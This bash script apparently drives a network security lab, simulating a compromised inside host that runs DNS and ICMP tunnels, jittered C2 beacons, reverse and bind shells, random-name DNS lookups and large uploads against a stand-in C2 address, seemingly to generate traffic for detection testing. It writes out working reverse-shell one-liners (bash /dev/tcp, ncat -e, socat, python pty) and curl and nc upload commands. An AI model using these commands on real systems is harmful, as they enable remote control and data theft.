# What an infected or leaking inside host does: tunnels, beacons, remote shells, generated names, uploads. Sourced by attacks.sh.
# shellcheck shell=bash disable=SC2034

DESK=10.20.0.101 C2=198.51.100.200 RESOLVER=198.51.100.53

tool iodine_direct dns-tunnel desk $C2
iodine_direct() {
    ns_start master iodined -f -c -P secret 10.99.0.1 t.tunnel.example
    sleep 1; ns_start desk iodine -f -P secret -r $C2 t.tunnel.example
    sleep 6; on 25 ping -q -i 0.5 -s 600 -c 30 10.99.0.1
}
tool dns2tcp_tunnel dns-tunnel desk $C2
dns2tcp_tunnel() {
    printf 'listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = d.tunnel.example\nresources = web:127.0.0.1:80\n' >"$LAB_DIR/dns2tcpd.conf"
    ns_start master dns2tcpd -F -f "$LAB_DIR/dns2tcpd.conf"
    sleep 1; ns_start desk dns2tcpc -r web -z d.tunnel.example -l 8888 $C2
    sleep 1; on 25 bash -c 'for i in 1 2 3 4 5 6; do curl -s -m 8 -o /dev/null http://127.0.0.1:8888/; sleep 1; done'
}
tool dig_leak dns-tunnel desk $RESOLVER; dig_leak() { on 60 bash -c 'head -c 6000 /dev/urandom | xxd -p -c 25 | while read -r l; do dig +tries=1 +time=1 @198.51.100.53 "${l:0:50}.x.leak.example" A; done'; }
tool dig_leak_slow dns-tunnel desk $RESOLVER; dig_leak_slow() { on 130 bash -c 'head -c 3000 /dev/urandom | base32 -w 48 | tr A-Z= a-z0 | while read -r l; do dig +tries=1 +time=1 @198.51.100.53 "$l.q.leak.example" TXT; sleep 1; done'; }
tool txt_shell dns-tunnel desk $RESOLVER; txt_shell() { on 90 bash -c 'for i in $(seq 60); do dig +tries=1 +time=1 @198.51.100.53 "$(head -c 12 /dev/urandom | xxd -p).cmd.leak.example" TXT; sleep 0.$((RANDOM % 9)); done'; }
tool icmp_leak dns-tunnel desk $C2; icmp_leak() { on 30 python3 "$LAB_HOME/tools/icmp_leak.py" $C2 120 0.1; }

# beacon SECONDS JITTER-PERCENT SPAN URL: a report at that pace.
beacon() { on $(($3 + 5)) bash -c 'end=$((SECONDS + $2)); while [ $SECONDS -lt $end ]; do curl -sk -o /dev/null -m 5 -A "Mozilla/4.0" --data "id=7f3a&n=$RANDOM" "$3"; sleep "$(awk -v s="$0" -v j="$1" -v r="$RANDOM" "BEGIN { printf \"%.2f\", s * (1 + j / 100 * (r / 16384 - 1)) }")"; done' "$1" "$2" "$3" "$4"; }
tool beacon_http c2-beacon desk $C2; beacon_http() { beacon 5 0 100 http://$C2/gate.php; }
tool beacon_jitter c2-beacon desk $C2; beacon_jitter() { beacon 5 20 120 http://$C2/gate.php; }
tool beacon_jitter50 c2-beacon desk $C2; beacon_jitter50() { beacon 4 50 130 http://$C2/gate.php; }
tool beacon_tls c2-beacon desk $C2; beacon_tls() { beacon 6 10 130 https://$C2/news; }
tool beacon_raw c2-beacon desk $C2; beacon_raw() { on 110 bash -c 'while sleep 5; do (exec 3<>/dev/tcp/198.51.100.200/4444; echo "ping 7f3a" >&3; read -t 2 -r l <&3); done'; }
tool beacon_udp c2-beacon desk $C2; beacon_udp() { on 110 bash -c 'while sleep 4; do echo -n "hello 7f3a$RANDOM" | nc -u -w 1 198.51.100.200 8443; done'; }
tool beacon_dead c2-beacon desk $C2; beacon_dead() { on 130 bash -c 'while sleep 6; do timeout 3 bash -c "exec 3<>/dev/tcp/198.51.100.200/9001"; done'; }

# typed SECONDS: an operator's commands, one every few seconds.
typed() { local i; for i in $(seq "$1"); do for c in id 'uname -a' 'ls -la /etc' 'cat /etc/hosts' 'ps aux | head -20' 'ls /tmp' hostname; do echo "$c"; sleep 2; i=$((i + 2)); done; [ "$SECONDS" -lt "$TYPED_END" ] || break; done; }
# shell_to PORT LISTENER COMMAND...: the desk connects back, the master types for half a minute.
shell_to() {
    local listener=$1; shift
    { sleep 2; TYPED_END=$((SECONDS + 25)) typed 30; echo exit; } | timeout 40 ip netns exec "$LAB_NS-master" $listener >/dev/null 2>&1 &
    sleep 1; on 35 "$@"; wait_for_jobs
}
tool shell_bash c2-beacon desk $C2; shell_bash() { shell_to 'nc -n -l -p 4445' bash -c 'exec bash -i >& /dev/tcp/198.51.100.200/4445 0>&1'; }
tool shell_443 c2-beacon desk $C2; shell_443() { shell_to 'nc -n -l -p 8081' bash -c 'exec sh -i >& /dev/tcp/198.51.100.200/8081 0>&1'; }
tool shell_ncat c2-beacon desk $C2; shell_ncat() { shell_to 'nc -n -l -p 53' ncat -e /bin/sh $C2 53; }
tool shell_socat c2-beacon desk $C2; shell_socat() { shell_to 'socat -u - TCP-LISTEN:8443,reuseaddr' socat EXEC:'bash -li',pty,stderr,setsid TCP:$C2:8443; }
tool shell_python c2-beacon desk $C2; shell_python() { shell_to 'nc -n -l -p 1337' python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.200",1337));[os.dup2(s.fileno(),f) for f in(0,1,2)];import pty;pty.spawn("/bin/sh")'; }
tool shell_ncat_tls c2-beacon desk $C2; shell_ncat_tls() { shell_to 'ncat --ssl -n -l -p 4447' ncat --ssl -e /bin/sh $C2 4447; }
tool shell_bind exploit a1 $WEB; shell_bind() { on_host web 40 ncat -l -p 5555 -e /bin/sh & sleep 1; { sleep 1; TYPED_END=$((SECONDS + 20)) typed 20; } | on 30 nc -n $WEB 5555 >/dev/null; wait_for_jobs; }
tool shell_long c2-beacon desk $C2; shell_long() { { sleep 2; for i in $(seq 20); do echo "echo $i; date; ls /usr/bin | head -5"; sleep 7; done; } | timeout 160 ip netns exec "$LAB_NS-master" ncat --ssl -n -l -p 4448 >/dev/null 2>&1 & sleep 1; on 150 ncat --ssl -e /bin/sh $C2 4448; wait_for_jobs; }

tool dga_random malware desk $RESOLVER; dga_random() { on 60 bash -c 'for i in $(seq 60); do dig +tries=1 +time=1 @198.51.100.53 "$(tr -dc a-z </dev/urandom | head -c $((8 + RANDOM % 9))).com"; sleep 0.3; done'; }
tool dga_words malware desk $RESOLVER; dga_words() { on 60 bash -c 'w=(river stone cloud green paper light storm field horse table glass winter garden silver north bread); for i in $(seq 90); do dig +tries=1 +time=1 @198.51.100.53 "${w[RANDOM % 16]}${w[RANDOM % 16]}${w[RANDOM % 16]}.net"; sleep 0.2; done'; }

tool leak_put exfiltration desk $C2 '' wan0 96; leak_put() { head -c 40000000 /dev/urandom >"$LAB_DIR/secret"; on 60 curl -s -m 50 -o /dev/null -T "$LAB_DIR/secret" http://$C2/up; }
tool leak_nc exfiltration desk $C2 '' wan0 96; leak_nc() { head -c 40000000 /dev/urandom >"$LAB_DIR/secret"; timeout 50 ip netns exec "$LAB_NS-master" nc -n -l -p 7777 >/dev/null & sleep 1; on 40 nc -n -N $C2 7777 <"$LAB_DIR/secret"; wait_for_jobs; }
tool leak_tls exfiltration desk $C2 '' wan0 96; leak_tls() { head -c 40000000 /dev/urandom >"$LAB_DIR/secret"; on 60 curl -sk -m 50 -o /dev/null -T "$LAB_DIR/secret" https://$C2/up; }
